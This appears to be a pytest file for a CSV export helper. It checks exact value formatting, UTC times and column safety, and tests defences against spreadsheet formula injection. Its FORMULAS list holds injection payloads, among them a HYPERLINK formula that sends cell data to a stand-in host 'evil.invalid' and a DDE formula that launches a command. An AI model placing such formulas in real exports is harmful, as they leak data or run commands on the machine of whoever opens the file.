"""Rows as CSV: exact, in UTC, and no spreadsheet runs them."""

import csv
import io
from datetime import date
from decimal import Decimal

import made_report
import pandas as pd
import pytest

from runbook_lib.report import csv_text

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "@SUM(1)",
    "-2+3",
    "+1",
    "＝1",
    " =1+1",
    "\r=1",
    "\n=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_is_a_formula_is_made_harmless(text: str) -> None:
    """A key's name must not run in the spreadsheet of whoever opens the rows."""
    assert csv_text.value(text).startswith("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param(-0.5, "-0.5", id="negative-real"),
        pytest.param(-7, "-7", id="negative-int"),
        pytest.param(Decimal("-0.0000000001"), "-0.0000000001", id="exact-money"),
        pytest.param(Decimal("1E+3"), "1000", id="no-exponent"),
        pytest.param(True, "true", id="flag"),
        pytest.param(None, "", id="none"),
        pytest.param(float("nan"), "", id="nan"),
        pytest.param(pd.NaT, "", id="nat"),
        pytest.param(pd.NA, "", id="na"),
        pytest.param(0, "0", id="zero"),
        pytest.param(date(2026, 11, 24), "2026-11-24", id="date"),
        pytest.param(["a", "b"], "a, b", id="list"),
        pytest.param(pd.Timestamp(made_report.NOW), "2026-11-24T05:43:02.000000Z", id="instant"),
        pytest.param("req-1", "req-1", id="text"),
    ],
)
def test_values_are_written_exactly(value, written: str) -> None:
    """Numbers stay numbers, unknown stays unknown, times are UTC."""
    assert csv_text.value(value) == written


def test_a_frame_reads_back_as_it_was() -> None:
    """Quotes, commas and line ends in a value must not move a column."""
    odd = 'a "b", c\nd'
    frame = pd.DataFrame({"=name": [odd, None], "cost_usd": [Decimal("0.10"), Decimal(0)]})
    rows = list(csv.reader(io.StringIO(csv_text.of_frame(frame))))
    assert rows == [["'=name", "cost_usd"], [odd, "0.1"], ["", "0"]]
